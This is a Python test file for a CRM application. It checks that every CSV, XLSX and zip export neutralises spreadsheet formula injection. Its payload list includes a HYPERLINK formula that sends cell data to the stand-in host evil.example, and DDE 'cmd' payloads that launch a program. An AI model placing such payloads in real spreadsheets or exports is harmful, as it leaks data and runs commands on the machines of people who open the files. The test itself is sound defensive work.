"""No export carries a live formula: every CSV, XLSX and zip the app produces, found in the url_map.

Organisations, people, meetings, clusters, places, sectors, stages and staff are named with the
formula-injection payloads of the review. The test walks the url_map for every endpoint that
looks like an export (a file suffix, `export` in its name or path, a `fmt` argument), calls it
and opens what comes back with csv, openpyxl or zipfile: no cell may start with a formula
trigger unless it is a plain number, and no XLSX cell may be a formula. An export endpoint
whose arguments the test cannot fill fails the test, so a new export cannot slip past.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from crm.establishments import services as case_services
from crm.establishments.models import EstablishmentCase
from tests.factories import (
    make_affiliation,
    make_cluster,
    make_company,
    make_contact,
    make_measure,
    make_meeting,
    make_membership,
    make_place,
    make_plan,
    make_sector,
    make_user,
)
from tests.network.conftest import network_cache  # noqa: F401 (a fixture, used by name)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
EXPORT_HINT = re.compile(r"export|\.(csv|tsv|xlsx|xls|ods|zip)$|<(\w+:)?fmt>")
# Every format a `fmt` argument might take; the ones an endpoint does not serve answer 404.
FORMATS = ("csv", "tsv", "xlsx", "xls", "ods", "zip", "json", "gexf", "graphml")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# Exports that are documents, not tables: nobody opens them in a spreadsheet.
DOCUMENT_TYPES = ("application/json", "application/gexf+xml", "application/graphml+xml")


def _is_export(rule) -> bool:
    return "GET" in rule.methods and bool(
        EXPORT_HINT.search(rule.rule) or "export" in rule.endpoint
    )


def _live_formulas(cells) -> list[str]:
    """The text cells a spreadsheet would run as a formula."""
    return [
        cell
        for cell in cells
        if isinstance(cell, str) and cell.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)
    ]


def _csv_cells(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row]


def _xlsx_cells(data: bytes) -> list:
    cells = []
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {sheet.title}!{cell.coordinate}"
                cells.append(cell.value)
    return cells


def _spreadsheet_cells(name: str, data: bytes) -> list:
    """Every cell of a CSV, XLSX or zip of them; anything else fails: it cannot be checked."""
    if name.endswith((".csv", ".tsv")) or name == "text/csv":
        return _csv_cells(data)
    if name.endswith(".xlsx") or name == XLSX_TYPE:
        return _xlsx_cells(data)
    if name.endswith((".html", ".json", ".xml")):
        return []  # documents in an archive package: no spreadsheet program runs them
    if name.endswith(".zip") or name == "application/zip":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return [
                cell
                for member in archive.namelist()
                for cell in _spreadsheet_cells(member, archive.read(member))
            ]
    pytest.fail(f"cannot check {name!r} for formulas")


@pytest.fixture
def hostile_records(session):
    """Every named thing of the domain named with each payload, linked so each export has it."""
    stages = {s.key: s for s in case_services.seed_stages(session)}
    for stage, payload in zip(stages.values(), HOSTILE, strict=False):
        stage.name = payload
    ids = {}
    previous = None
    for n, payload in enumerate(HOSTILE):
        place = make_place(session, name=payload, growth_area=True)
        company = make_company(
            session, name=payload, place=place, sectors=[make_sector(session, name=payload)]
        )
        person = make_contact(session, name=payload, email=f"hostile{n}@example.no")
        make_affiliation(session, contact=person, company=company, title=payload)
        staff = make_user(session, name=payload, email=f"staff{n}@lillestrom.kommune.no")
        meeting = make_meeting(
            session,
            title=payload,
            notes=payload,
            location=payload,
            companies=[company, previous] if previous else [company],
            contacts=[person],
            staff=[staff],
        )
        cluster = make_cluster(session, name=payload, focus=payload)
        make_membership(session, cluster=cluster, company=company)
        if previous:
            make_membership(session, cluster=cluster, company=previous)
        session.add(
            EstablishmentCase(
                company=company,
                kind="new",
                stage=stages["established"],
                adviser=staff,
                wished_places=[place],
                established_place=place,
                established_on=date(2024, 5, n + 1),
                actual_jobs=10,
                notes=payload,
                source=payload,
            )
        )
        plan = make_plan(session, name=payload, start_year=2000 + n, end_year=2000 + n)
        make_measure(
            session,
            plan=plan,
            title=payload,
            description=payload,
            progress_note=payload,
            partner_ids=[company.id],
            responsible_id=staff.id,
        )
        ids = {
            "company_id": company.id,
            "contact_id": person.id,
            "meeting_id": meeting.id,
            "cluster_id": cluster.id,
            "plan_id": plan.id,
        }
        previous = company
    session.commit()
    return ids


def _urls(rule, ids: dict[str, int]) -> list[str]:
    """The URLs that call this rule: each format for `fmt`, the hostile records' ids."""
    urls = [rule.rule]
    for argument in sorted(rule.arguments - set(rule.defaults or {})):
        if argument == "fmt":
            values = FORMATS
        elif argument in ids:
            values = (ids[argument],)
        else:
            pytest.fail(f"{rule.endpoint}: this test does not know how to fill <{argument}>")
        pattern = re.compile(rf"<(\w+(\(.*?\))?:)?{argument}>")
        urls = [pattern.sub(str(value), url) for url in urls for value in values]
    return urls


def test_no_export_anywhere_holds_a_live_formula(
    app,
    client,
    login,
    session,
    hostile_records,
    network_cache,  # noqa: F811
):
    login(role="admin")
    exports = [rule for rule in app.url_map.iter_rules() if _is_export(rule)]
    assert {"exports.companies", "reports.pipeline_csv", "network.export"} <= {
        rule.endpoint for rule in exports
    }
    all_cells: list = []
    spreadsheets = set()
    for rule in exports:
        answered = False
        for url in _urls(rule, hostile_records):
            response = client.get(url)
            if response.status_code == 404 and "fmt" in rule.arguments:
                continue  # a format this endpoint does not serve
            assert response.status_code == 200, (url, response.status_code)
            answered = True
            content_type = response.headers["Content-Type"].split(";")[0]
            if content_type in DOCUMENT_TYPES:
                continue
            cells = _spreadsheet_cells(content_type, response.get_data())
            assert _live_formulas(cells) == [], url
            all_cells += cells
            spreadsheets.add(url)
        assert answered, f"{rule.endpoint} answered no URL the test tried"

    # The payloads were really there to be caught, in every kind of spreadsheet.
    assert {url.rsplit(".", 1)[-1] for url in spreadsheets} >= {"csv", "xlsx"}
    assert any("network" in url for url in spreadsheets)  # the zip of nodes and edges
    texts = [cell for cell in all_cells if isinstance(cell, str)]
    for payload in HOSTILE:
        # A neutralised cell, as the name, title or notes of the thing itself...
        assert "'" + payload in texts, payload
        # ...and more than once: the organisation, person, meeting, place, stage and staff.
        assert texts.count("'" + payload) >= 6, (payload, texts.count("'" + payload))


WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(|xlsxwriter|text/csv|spreadsheetml")


def test_spreadsheets_are_written_by_the_one_writer_only():
    """No module but crm/exports writes CSV or XLSX: a new file format cannot skip neutralise."""
    crm = Path(__file__).resolve().parents[2] / "crm"
    own = {crm / "exports" / "spreadsheets.py", crm / "exports" / "downloads.py"}
    writers = [
        f"{path.relative_to(crm.parent)}: {match.group(0)}"
        for path in sorted(crm.rglob("*.py"))
        if path not in own
        for match in WRITERS.finditer(path.read_text(encoding="utf-8"))
    ]
    assert writers == []
